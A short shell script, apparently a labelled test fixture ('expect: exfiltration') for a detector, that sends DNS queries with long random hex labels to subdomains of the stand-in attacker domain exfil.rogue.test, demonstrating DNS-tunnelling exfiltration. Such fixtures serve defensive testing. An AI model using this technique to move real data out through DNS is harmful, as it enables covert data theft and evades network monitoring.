#!/bin/sh
# expect: exfiltration
# why: smuggles data out in long DNS labels
for i in 1 2 3 4 5 6 7 8 9 10 11 12; do
  label=$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
  dig +short +tries=1 +time=1 "$label.$i.x.exfil.rogue.test" > /dev/null 2>&1
done
true
